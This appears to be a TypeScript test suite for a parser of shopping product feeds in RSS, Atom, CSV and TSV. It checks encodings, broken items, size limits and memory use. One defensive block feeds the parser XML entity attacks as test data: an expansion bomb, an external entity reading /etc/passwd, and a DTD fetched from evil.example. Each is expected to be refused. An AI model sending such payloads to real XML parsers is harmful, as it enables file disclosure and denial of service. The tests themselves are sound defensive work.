import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readFeed } from '../../../lambdas/domain/feed/read-feed.ts';
import type { FeedRecord } from '../../../lambdas/domain/feed/record.ts';
import { toFeedProduct } from '../../../lambdas/domain/feed/product.ts';

async function read(content: string | Buffer, pieceBytes = 64 * 1024, encoding?: string): Promise<FeedRecord[]> {
  const bytes = Buffer.from(content as string);
  async function* pieces() {
    for (let start = 0; start < bytes.length; start += pieceBytes) yield bytes.subarray(start, start + pieceBytes);
  }
  const found: FeedRecord[] = [];
  for await (const records of readFeed(pieces(), encoding)) found.push(...records);
  return found;
}

const rss = (items: string, more = '') => `<?xml version="1.0"?>${more}
<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0">
<channel>
<title>Lantern Books</title>
<link>https://lanternbooks.example</link>
<description>All books</description>
${items}
</channel>
</rss>`;

const tv = {
  id: 'TV_123456',
  title: 'Television & radio, 27" <LED>',
  link: 'https://shop.example/tv?size=27&wall=yes',
  image_link: 'https://img.shop.example/TV_123456.png',
  price: '159.00 USD',
  availability: 'in stock',
  item_group_id: 'TV',
};

// Written from Google's public descriptions of both formats, with the elements that these ask for.
const rssFeed = rss(`<item>
<g:id>TV_123456</g:id>
<g:title>Television &amp; radio, 27&#34; <![CDATA[<LED>]]></g:title>
<g:description>Television &lt;b&gt;bold&lt;/b&gt;</g:description>
<g:link>https://shop.example/tv?size=27&amp;wall=yes</g:link>
<g:image_link>https://img.shop.example/TV_123456.png</g:image_link>
<g:additional_image_link>https://img.shop.example/other.png</g:additional_image_link>
<g:condition>used</g:condition>
<g:availability>in stock</g:availability>
<g:price>159.00 USD</g:price>
<g:shipping><g:country>US</g:country><g:service>Standard</g:service><g:price>14.95 USD</g:price></g:shipping>
<g:item_group_id>TV</g:item_group_id>
</item>`);
const atomFeed = `<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:merchant="http://base.google.com/ns/1.0">
<title>Lantern Books</title><link rel="self" href="https://shop.example"/><updated>2026-11-27T12:00:00Z</updated><id>tag:shop.example,2026:feed</id>
<author><name>Lantern</name></author>
<entry>
<id>TV_123456</id>
<title>Television &amp;amp; radio, 27&quot; &lt;LED&gt;</title>
<merchant:title>Television &amp; radio, 27&quot; &lt;LED&gt;</merchant:title>
<link rel="enclosure" href="https://shop.example/other"/>
<link href="https://shop.example/tv?size=27&amp;wall=yes"/>
<summary>A set.</summary>
<updated>2026-11-27T12:00:00Z</updated>
<merchant:image_link>https://img.shop.example/TV_123456.png</merchant:image_link>
<merchant:price>159.00 USD</merchant:price>
<merchant:availability>in stock</merchant:availability>
<merchant:item_group_id>TV</merchant:item_group_id>
</entry>
</feed>`;
const csvFeed = `id,title,description,link,image link,g:price,Availability,item_group_id\r
TV_123456,"Television & radio, 27"" <LED>","two
lines",https://shop.example/tv?size=27&wall=yes,https://img.shop.example/TV_123456.png,159.00 USD,in stock,TV\r
`;

describe('a product feed', () => {
  test.each([
    ['RSS 2.0', rssFeed, 7],
    ['Atom', atomFeed, 5],
    ['CSV', csvFeed, 2],
    ['TSV', 'id\ttitle\tlink\timage_link\tprice\tavailability\titem_group_id\nTV_123456\t"Television & radio, 27"" <LED>"\thttps://shop.example/tv?size=27&wall=yes\thttps://img.shop.example/TV_123456.png\t159.00 USD\tin stock\tTV\n', 2],
  ])('is read as %s, in pieces of any size', async (_name, content, line) => {
    for (const pieceBytes of [1, 7, 1000, 1e6]) expect(await read(content, pieceBytes)).toEqual([{ line, fields: tv }]);
  });

  test.each([
    ['packed with gzip', gzipSync(rssFeed)],
    ['in UTF-16 with its mark', Buffer.from(`\ufeff${rssFeed}`, 'utf16le')],
    ['in UTF-8 with its mark', Buffer.from(`\ufeff${rssFeed}`)],
    ['in Latin-1, as it says', Buffer.from(rssFeed.replace('version="1.0"', 'version="1.0" encoding="ISO-8859-1"').replace('radio', 'r\u00e4dio'), 'latin1')],
  ])('is read %s', async (_name, content) => {
    const [record] = await read(content, 50);
    expect(record?.fields.title?.replace('\u00e4', 'a')).toBe(tv.title);
  });

  test('in another encoding is read by its name, and bytes that are wrong cost their item only', async () => {
    const latin = Buffer.from('id,title\na,Caf\u00e9\nb,Tea\n', 'latin1');
    expect((await read(latin, 9, 'windows-1252')).map(({ fields }) => fields.title)).toEqual(['Caf\u00e9', 'Tea']);
    expect((await read(latin)).map((record) => toFeedProduct(record, 0))).toMatchObject([{ id: 'a', problem: "title has bytes that are not in the file's encoding" }, { id: 'b', details: { title: 'Tea' } }]);
  });
});

describe('[F1] declared entities', () => {
  const bomb = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
  test.each([
    ['an expansion bomb', bomb],
    ['a file of the machine', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
    ['declarations from elsewhere', '<!DOCTYPE rss [<!ENTITY % more SYSTEM "https://evil.example/x.dtd"> %more;]>'],
    ['without a document type', '<!ENTITY a "aaa">'],
  ])('%s is refused, and expands to nothing', async (_name, more) => {
    const content = rss('<item><g:id>1</g:id><g:title>&c;&a;</g:title></item>', more);
    for (const pieceBytes of [5, 1e6]) await expect(read(content, pieceBytes)).rejects.toThrow('declares entities');
  });
  test('a document type without any is harmless', async () => {
    expect(await read(rss('<item><g:id>1</g:id><g:title>&a;</g:title></item>', '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "https://example.com/rss.dtd">'))).toMatchObject([{ fields: { title: '&a;' } }]);
  });
});

describe('a broken item costs that item only', () => {
  const whole = (id: string) => `<item>\n<g:id>${id}</g:id><g:title>Book ${id}</g:title></item>`;
  test.each([
    ['a tag that is not closed', '<item><g:id>x</g:id><g:title>No end<g:price>1.00 EUR</g:price></item>', '<price> stands within <title>'],
    ['a last tag that is not closed', '<item><g:id>x</g:id><g:title>No end</item>', '<g:title> is not closed'],
    ['an item that is not closed', '<item><g:id>x</g:id><g:title>No end</g:title>', '<item> begins before the item ends'],
    ['a text without end', `<item><g:id>x</g:id><g:title>${'long '.repeat(2_000)}</g:title></item>`, 'title has over 5000 characters'],
  ])('%s', async (_name, broken, problem) => {
    const records = await read(rss(`${whole('1')}${broken}${whole('2')}`), 40);
    expect(records.map(({ fields, ...rest }) => ({ id: fields.id, problem: rest.problem }))).toEqual([{ id: '1' }, { id: 'x', problem }, { id: '2' }]);
  });
  test('an ampersand alone is text, and empty elements are nothing', async () => {
    expect(await read(rss('<item><g:id>1</g:id><g:title>Tea & cake</g:title><g:sale_price/><g:link></g:link></item>'))).toEqual([{ line: 7, fields: { id: '1', title: 'Tea & cake' } }]);
  });
  test('a row with too few cells, and a quote that is not closed', async () => {
    const records = await read('id,title,price\n1,One,1.00 EUR\n2,Two\n3,"Three,3.00 EUR\n4,Four,4.00 EUR\n');
    expect(records.map(({ line, fields, problem }) => [line, fields.id, problem])).toEqual([
      [2, '1', undefined],
      [3, undefined, '2 cells, the header has 3'],
      [4, undefined, 'a quote that opens a cell is not closed; write a quote within a quoted cell twice'],
      [5, '4', undefined],
    ]);
  });
});

describe('a file as a whole', () => {
  const items = rss('<item><g:id>1</g:id><g:title>One</g:title></item><item><g:id>2</g:id><g:title>Two</g:title></item>');
  test.each([
    ['that is cut off', items.slice(0, -12), 'the file ends within <channel>, so it is cut off'],
    ['that is a page', '<!DOCTYPE html>\n<html><body>Not found</body></html>', 'the root element is <html>'],
    ['that is empty', '', 'the file is empty'],
    ['with blanks only', ' \n ', 'the file is empty'],
    ['without an element', '<!-- nothing -->', 'no element'],
    ['whose columns nobody knows', 'sku;name\n1;One\n', 'no column id; there are sku, name'],
    ['in an unknown encoding', '<?xml version="1.0" encoding="klingon"?><rss></rss>', 'the encoding "klingon" is not known'],
    ['nested without end', rss('<a>'.repeat(200)), 'nested deeper than 100'],
      ])('%s is refused with the reason', async (_name, content, reason) => expect(read(content)).rejects.toThrow(reason));

  test('that is cut off when it is packed is refused', async () => expect(read(gzipSync(items).subarray(0, 80))).rejects.toThrow('cannot be unpacked'));

  test('never makes the reader fail in another way, whatever it holds', async () => {
    const part = fc.constantFrom('<item>', '</item>', '<g:id>', '</g:id>', '<g:title>', 'x', '&', '&#0;', '<![CDATA[', ']]>', '<!--', '-->', '<', '>', '"', "'", '\n', ',', 'id,title', '</rss>', '<?', '\u0000', '\ud800');
    await fc.assert(
      fc.asyncProperty(fc.array(part, { maxLength: 30 }), fc.boolean(), fc.integer({ min: 1, max: 20 }), async (parts, isXml, pieceBytes) => {
        const content = isXml ? rss(parts.join('')) : parts.join('');
        const outcome = await read(content, pieceBytes).catch((error: Error) => error);
        expect(outcome instanceof Error ? outcome.name : 'records').toMatch(/^(FeedError|records)$/);
        // Where the pieces end makes no difference.
        expect(await read(content).catch((error: Error) => error.message)).toEqual(outcome instanceof Error ? outcome.message : outcome);
      }),
      { numRuns: 150 },
    );
  });

  test('[F2] with a comment of megabytes is refused, since the parser would keep it whole', async () =>
    expect(read(rss(`<!-- ${'x'.repeat(3 * 1024 * 1024)} -->`))).rejects.toThrow('of over 1048576 characters'));

  test('[F2] with a line of CSV that does not end is kept to 64 KB of it', async () => {
    const [long, next] = await read(`id,title\n1,${'x'.repeat(1024 * 1024)}\n2,Two\n`);
    expect([long?.fields.id, long?.fields.title?.length, next?.fields]).toEqual(['1', 64 * 1024 - 2, { id: '2', title: 'Two' }]);
  });

  test('[F2] of any size is never in memory as a whole', async () => {
    const item = `<item><g:id>ID</g:id><g:title>Book ID</g:title><g:description>${'words '.repeat(150)}</g:description></item>`;
    async function* large() {
      yield Buffer.from(rss('').replace('</channel>\n</rss>', ''));
      for (let index = 0; index < 5_000; index += 1) yield Buffer.from(item.replaceAll('ID', String(index)));
      yield Buffer.from('</channel></rss>');
    }
    let count = 0;
    let most = 0;
    for await (const records of readFeed(large())) {
      count += records.length;
      most = Math.max(most, records.length);
    }
    expect([count, most]).toEqual([5_000, 1]);
  });
});
